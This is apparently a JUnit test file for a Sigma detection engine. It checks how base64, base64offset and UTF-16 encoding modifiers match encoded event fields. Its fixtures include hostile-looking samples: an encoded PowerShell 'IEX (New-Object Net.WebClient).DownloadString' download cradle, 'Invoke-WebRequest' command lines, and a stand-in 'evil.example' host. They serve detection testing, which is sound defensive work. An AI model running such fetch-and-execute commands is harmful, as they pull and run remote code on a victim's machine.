package dev.cloudwarden.engine.sigma;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;

import static dev.cloudwarden.engine.sigma.Conformance.rule;

/**
 * The encoding modifiers of the Sigma modifiers appendix (base64, base64offset, utf16le, utf16be, utf16,
 * wide), checked against values really encoded, at every offset inside longer text.
 */
class EncodingConformanceTest {

    private static String b64(byte[] bytes) {
        return Base64.getEncoder().encodeToString(bytes);
    }

    private static String b64(String text) {
        return b64(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void base64MatchesTheEncodedValue() {
        rule("""
                selection:
                    Data|base64: 'cmd.exe'
                condition: selection
                """)
                .matches("{Data: '" + b64("cmd.exe") + "'}")
                .doesNotMatch("{Data: 'cmd.exe'}", "{Data: 'x" + b64("cmd.exe") + "'}");
        // base64 then contains: the whole encoded value (padding included) somewhere in the field. A value
        // inside a longer encoded text needs base64offset (next tests).
        rule("""
                selection:
                    Data|base64|contains: 'http://evil.example'
                condition: selection
                """)
                .matches("{Data: 'payload=" + b64("http://evil.example") + "&x=1'}")
                .doesNotMatch("{Data: 'payload=" + b64("GET http://evil.example") + "'}");
    }

    // Ambiguity: the spec makes string values case-insensitive, but an encoded value's case is part of
    // the bytes it encodes (aHR0cA vs AhR0Ca). Encoded forms are matched exactly.
    @Test
    void base64ValuesAreMatchedExactly() {
        String encoded = b64("http://evil.example");
        rule("""
                selection:
                    Data|base64|contains: 'http://evil.example'
                condition: selection
                """)
                .matches("{Data: '" + encoded + "'}")
                .doesNotMatch("{Data: '" + swapCase(encoded) + "'}");
        rule("""
                selection:
                    Data|base64offset|contains: 'http://evil.example'
                condition: selection
                """)
                .matches("{Data: '" + b64("GET http://evil.example") + "'}")
                .doesNotMatch("{Data: '" + swapCase(b64("GET http://evil.example")) + "'}");
    }

    private static String swapCase(String s) {
        StringBuilder sb = new StringBuilder();
        for (char c : s.toCharArray()) {
            sb.append(Character.isUpperCase(c) ? Character.toLowerCase(c) : Character.toUpperCase(c));
        }
        return sb.toString();
    }

    @Test
    void base64offsetFindsTheValueAtEveryOffsetInsideLongerEncodedText() {
        var check = rule("""
                selection:
                    CommandLine|base64offset|contains: 'Invoke-WebRequest'
                condition: selection
                """);
        for (String prefix : List.of("", "a", "ab", "abc", "iex (", "$x = 1; ")) {
            for (String suffix : List.of("", " -Uri http://x", "!", "??")) {
                String script = prefix + "Invoke-WebRequest" + suffix;
                check.matches("{CommandLine: 'powershell -e " + b64(script) + "'}");
            }
        }
        check.doesNotMatch("{CommandLine: 'powershell -e " + b64("Invoke-RestMethod -Uri http://x") + "'}",
                "{CommandLine: 'Invoke-WebRequest'}");
    }

    @Test
    void utf16leBase64offsetContainsLikeRealWindowsRules() {
        // What powershell -EncodedCommand carries: base64 of the UTF-16LE script.
        var check = rule("""
                selection:
                    CommandLine|utf16le|base64offset|contains: 'IEX ('
                condition: selection
                """);
        var wide = rule("""
                selection:
                    CommandLine|wide|base64offset|contains: 'IEX ('
                condition: selection
                """);
        for (String prefix : List.of("", "a", "ab", "$c=1;")) {
            String script = prefix + "IEX (New-Object Net.WebClient).DownloadString('http://x')";
            String event = "{CommandLine: 'powershell.exe -NoP -enc " + b64(script.getBytes(StandardCharsets.UTF_16LE)) + "'}";
            check.matches(event);
            wide.matches(event);
        }
        // The same script in UTF-8 is a different encoding.
        check.doesNotMatch("{CommandLine: 'powershell.exe -enc " + b64("IEX (New-Object Net.WebClient)") + "'}");
    }

    @Test
    void utf16VariantsEncodeAsTheSpecShows() {
        // utf16le: cmd > 63 00 6d 00 64 00; utf16be: 00 63 00 6d 00 64; utf16: FF FE 63 00 6d 00 64 00.
        rule("""
                selection:
                    Data|utf16le|base64: 'cmd'
                condition: selection
                """).matches("{Data: '" + b64(new byte[]{0x63, 0, 0x6d, 0, 0x64, 0}) + "'}")
                .doesNotMatch("{Data: '" + b64("cmd") + "'}");
        rule("""
                selection:
                    Data|utf16be|base64: 'cmd'
                condition: selection
                """).matches("{Data: '" + b64(new byte[]{0, 0x63, 0, 0x6d, 0, 0x64}) + "'}");
        rule("""
                selection:
                    Data|utf16|base64: 'cmd'
                condition: selection
                """).matches("{Data: '" + b64(new byte[]{(byte) 0xFF, (byte) 0xFE, 0x63, 0, 0x6d, 0, 0x64, 0}) + "'}");
        // Without base64 the encoded bytes are matched as characters (NULs included).
        rule("""
                selection:
                    Data|wide|contains: 'cmd'
                condition: selection
                """).matches("{Data: 'x\\u0000c\\u0000m\\u0000d\\u0000y'}").doesNotMatch("{Data: 'cmd'}");
    }
}
